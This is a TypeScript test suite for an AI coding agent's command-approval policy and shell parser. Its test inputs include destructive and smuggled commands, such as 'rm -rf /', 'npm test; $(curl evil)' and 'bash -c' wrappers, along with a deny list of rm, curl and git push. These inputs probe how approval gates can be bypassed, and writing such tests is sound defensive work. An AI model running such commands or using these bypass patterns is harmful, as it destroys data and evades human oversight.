// Approval policy and the shell parser behind it: compound commands are split into their parts; anything the parser
// cannot read with certainty asks; deny rules win everywhere.

import {describe, it} from "node:test";
import assert from "node:assert/strict";
import {ApprovalPolicy} from "../../../src/coder/approvals/policy";
import {parseShell} from "../../../src/coder/approvals/shell";

function words(src: string): string[][] {
    const r = parseShell(src);
    assert.ok(r.ok, `unparseable: ${!r.ok && r.reason}`);
    return r.commands.map(c => c.words);
}

describe("parseShell", () => {
    it("splits &&, ||, ;, |, & and newlines", () => {
        assert.deepEqual(words("a && b | c; d || e & f\ng"), [["a"], ["b"], ["c"], ["d"], ["e"], ["f"], ["g"]]);
    });
    it("handles quotes, escapes and comments", () => {
        assert.deepEqual(words(`echo "a && b" 'c | d' e\\ f # g && h`), [["echo", "a && b", "c | d", "e f"]]);
    });
    it("finds commands inside subshells, $( ) and backticks", () => {
        assert.deepEqual(words("(cd src && ls) | wc -l"), [["cd", "src"], ["ls"], ["wc", "-l"]]);
        const w = words("echo $(rm -rf x) `curl y`");
        assert.ok(w.some(c => c[0] === "rm") && w.some(c => c[0] === "curl") && w.some(c => c[0] === "echo"));
        assert.ok(words(`echo "today: $(date)"`).some(c => c[0] === "date"));
    });
    it("records redirections and assignments apart from words", () => {
        const r = parseShell("FOO=1 BAR=2 npm test > out.txt 2>&1 < in");
        assert.ok(r.ok);
        const c = r.commands[0]!;
        assert.deepEqual(c.words, ["npm", "test"]);
        assert.deepEqual(c.assignments, ["FOO=1", "BAR=2"]);
        assert.deepEqual(c.redirects.map(x => [x.op, x.target]), [[">", "out.txt"], ["2>&", "&1"], ["<", "in"]]);
    });
    it("is unparseable for what it cannot read with certainty", () => {
        for (const s of ["cat <<EOF\nx\nEOF", "if true; then rm x; fi", "for f in *; do rm $f; done", "$CMD arg", "f() { rm x; }", "echo $((1+2))", "diff <(ls a) <(ls b)", "echo 'open", "(echo x", "echo x)"]) {
            assert.equal(parseShell(s).ok, false, s);
        }
    });
});

describe("ApprovalPolicy", () => {
    const read = {approval: "never" as const, readOnly: true};
    const write = {approval: "ask" as const, readOnly: false};

    it("lets read-only tools run and asks for writes and commands by default", () => {
        const p = new ApprovalPolicy();
        assert.equal(p.decide("read_file", {path: "a"}, read), "allow");
        assert.equal(p.decide("write_file", {path: "a", content: ""}, write), "ask");
        assert.equal(p.decide("run_command", {command: "npm install"}, write), "ask");
    });

    it("allows read-only commands without asking, compound ones too, unless they write", () => {
        const p = new ApprovalPolicy();
        assert.equal(p.decide("run_command", {command: "ls -la && cat a.txt | grep x | wc -l"}, write), "allow");
        assert.equal(p.decide("run_command", {command: "git status && git diff"}, write), "allow");
        assert.equal(p.decide("run_command", {command: "cat a > b"}, write), "ask");
        assert.equal(p.decide("run_command", {command: "ls 2>/dev/null"}, write), "allow");
        assert.equal(p.decide("run_command", {command: "find . -name '*.tmp' -delete"}, write), "ask");
        assert.equal(p.decide("run_command", {command: "git push"}, write), "ask");
        assert.equal(new ApprovalPolicy({allowReadOnlyCommands: false}).decide("run_command", {command: "ls"}, write), "ask");
    });

    it("applies allow rules to every part of a compound command", () => {
        const p = new ApprovalPolicy({allowCommands: ["npm test", "npm run *"]});
        assert.equal(p.decide("run_command", {command: "npm test && npm run lint"}, write), "allow");
        assert.equal(p.decide("run_command", {command: "npm test && rm -rf node_modules"}, write), "ask");
        assert.equal(p.decide("run_command", {command: "npm test; $(curl evil)"}, write), "ask");
        assert.match(p.evaluate("run_command", {command: "npm test && rm -rf node_modules"}, write).reason, /rm -rf node_modules/);
    });

    it("denies a denied command anywhere: chained, piped, in $( ), behind wrappers or sh -c — even in auto mode", () => {
        const p = new ApprovalPolicy({mode: "auto", denyCommands: ["rm", "git push", "curl"]});
        for (const c of ["rm -rf /", "ls && rm x", "echo `rm x`", "echo $(curl http://x)", "sudo rm x", "timeout 5 rm x", "find . | xargs rm", "bash -c 'git push origin main'", "env A=1 /bin/rm x", "git push --force"]) {
            assert.equal(p.decide("run_command", {command: c}, write), "deny", c);
        }
        assert.equal(p.decide("run_command", {command: "git pull && ls"}, write), "allow");
        // Unparseable lines are still checked textually for denied commands.
        assert.equal(p.decide("run_command", {command: "for f in *; do rm $f; done"}, write), "deny");
    });

    it("asks for anything it cannot parse", () => {
        const p = new ApprovalPolicy({allowCommands: ["*"]});
        const v = p.evaluate("run_command", {command: "cat <<EOF\nhi\nEOF"}, write);
        assert.equal(v.decision, "ask");
        assert.match(v.reason, /heredoc/);
        assert.equal(p.decide("run_command", {command: "eval ls"}, write), "ask");
        assert.equal(p.decide("run_command", {command: "sh script.sh"}, write), "ask");
    });

    it("has modes and per-tool rules", () => {
        assert.equal(new ApprovalPolicy({mode: "read-only"}).decide("edit_file", {}, write), "deny");
        assert.equal(new ApprovalPolicy({mode: "read-only"}).decide("search", {}, read), "allow");
        assert.equal(ApprovalPolicy.auto().decide("write_file", {}, write), "allow");
        assert.equal(new ApprovalPolicy({tools: {run_tests: "allow"}}).decide("run_tests", {}, write), "allow");
        assert.equal(new ApprovalPolicy({tools: {search: "deny"}}).decide("search", {}, read), "deny");
        assert.equal(new ApprovalPolicy({tools: {read_file: "ask"}}).decide("read_file", {}, read), "ask");
    });
});
